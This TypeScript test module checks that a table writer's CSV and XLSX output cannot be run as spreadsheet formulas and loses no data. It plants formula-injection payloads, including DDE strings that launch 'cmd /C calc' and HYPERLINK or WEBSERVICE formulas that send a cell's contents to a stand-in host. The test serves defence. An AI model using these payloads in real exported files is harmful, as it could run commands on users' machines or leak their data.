import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import readXlsx from 'read-excel-file/node'
import yauzl from 'yauzl'
import { cellOf } from '#platform/cells.ts'
import { tableWriter } from '#platform/table-writer.ts'
import type { Finding, Proof, ProofContext } from './proof.ts'
import { atLeast, none, told } from './support/figures.ts'
import { temporaryFolder } from './support/places.ts'
import { readAgain } from './takeover/source.ts'
import { noneOf } from './tally.ts'

/**
 * What people have typed into names and remarks so that a spreadsheet runs it is written as we write tables, and read again by
 * programs that are not ours. No spreadsheet is asked: none is on the machines that judge.
 */

const COMMANDS = [
  '=HYPERLINK("http://x.example?"&A1,"bấm vào đây")',
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://x.example")',
  '=IMPORTXML("http://x.example","//a")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '@x',
]
/** What a spreadsheet passes over before it looks. */
const BEFORE = ['', ' ', '\t', '\r', '\n', '\u00a0', '\u200b', '\ufeff', '\r\n ']
const PLAIN = [
  '+84 912 345 678',
  '+84912345678',
  '0912345678',
  '001065001234',
  '1e10',
  '1/2',
  '01/02/2026',
  '３',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  "'=1+1",
  "''",
  "'",
  "O'Hara",
  'Trần Thị "Bé"',
  'Thôn 1; xã 2, tỉnh 3',
  'Bổ sung:\n1) đơn\n2) bản sao',
  'Bổ sung:\r\n1) đơn',
  'Nguyễn Thị Huyền Trân công chúa',
  'Nguyê\u0303n Va\u0306n Ba\u0309y',
  '<c t="n"><f>1+1</f></c>',
  '&amp; & &#61;1+1',
  '_x003D_1+1',
  ']]>',
  'TRUE',
  '#REF!',
  'A\u0001B\u0007C',
  '',
  ' giữ khoảng trắng  ',
  '👩‍⚕️ và 𠮷',
]
const VALUES = [...BEFORE.flatMap((before) => COMMANDS.map((command) => `${before}${command}`)), ...PLAIN]

const run = async ({ say }: ProofContext): Promise<Finding[]> => {
  const path = join(await temporaryFolder(), 'cells')
  const table = await tableWriter(path, 'Cells', ['Nth', 'Value'])
  for (const [nth, value] of VALUES.entries()) await table.line([`n${nth}`, value])
  await table.close()

  const csv = readCommas(await readFile(`${path}.csv`, 'utf8'))
    .slice(1)
    .map(([, cell = '']) => cell)
  const sheet = await partOf(`${path}.xlsx`, 'xl/worksheets/sheet1.xml')
  const opened = (await readXlsx(`${path}.xlsx`, { trim: false } as object)) as unknown as
    | { data?: unknown[][] }[]
    | unknown[][]
  const rows = (
    Array.isArray(opened[0]) ? opened : ((opened[0] as { data: unknown[][] }).data ?? [])
  ) as unknown[][]
  const byOther = rows.slice(1).map(([, value]) => value)
  return [
    atLeast('values planted', VALUES.length, 60, 'values'),
    noneOf(
      'cells of CSV that a spreadsheet would run',
      csv.filter(isRun).map((cell) => JSON.stringify(cell)),
      'cells',
      say,
    ),
    noneOf('values of CSV that are not what was written', unequal(csv.map(cellOf), VALUES), 'values', say),
    none('formulas in XLSX', (sheet.match(/<(?:\w+:)?f[\s>/]/g) ?? []).length, 'formulas'),
    none(
      'cells of XLSX that are not texts by their type',
      (sheet.match(/<c [^>]*>/g) ?? []).filter((cell) => !cell.includes(' t="inlineStr"')).length,
      'cells',
    ),
    noneOf(
      'values of XLSX that another reader gives otherwise',
      unequal(byOther.map(asText), VALUES),
      'values',
      say,
    ),
    none(
      'cells of XLSX that another reader gives as a number, a date or a truth',
      byOther.filter((cell) => cell !== null && typeof cell !== 'string').length,
      'cells',
    ),
    told('files opened by a spreadsheet itself', 0, 'files'),
  ]
}

/** By what spreadsheets begin a formula with, after what they pass over. */
const isRun = (cell: string): boolean => {
  const first = [...cell].find((sign) => !/[\s\p{C}]/u.test(sign)) ?? ''
  return ['=', '+', '-', '@', '＝', '＋', '－', '＠'].includes(first)
}

const unequal = (found: readonly string[], wanted: readonly string[]): string[] => [
  ...(found.length === wanted.length ? [] : [`there are ${found.length} values, not ${wanted.length}`]),
  ...wanted.flatMap((value, nth) =>
    found[nth] === value ? [] : [`${JSON.stringify(value)} is ${JSON.stringify(found[nth])}`],
  ),
]

/** The reader gives nothing for an empty text. */
const asText = (value: unknown): string => (value === null || value === undefined ? '' : String(value))

const readCommas = (text: string): string[][] => readAgain(text, ',')

const partOf = (path: string, name: string): Promise<string> =>
  new Promise((resolve, reject) => {
    yauzl.open(path, { lazyEntries: true }, (error, zip) => {
      if (error) return reject(error)
      zip.on('entry', (entry: yauzl.Entry) => {
        if (entry.fileName !== name) return zip.readEntry()
        zip.openReadStream(entry, async (fault, stream) => {
          if (fault) return reject(fault)
          const chunks: Buffer[] = []
          for await (const chunk of stream) chunks.push(chunk as Buffer)
          resolve(Buffer.concat(chunks).toString())
        })
      })
      zip.readEntry()
    })
  })

export const cells: Proof = {
  name: 'cells',
  claim: 'Whatever stands in a cell that we write, no spreadsheet runs it, and nothing of it is lost.',
  run,
}
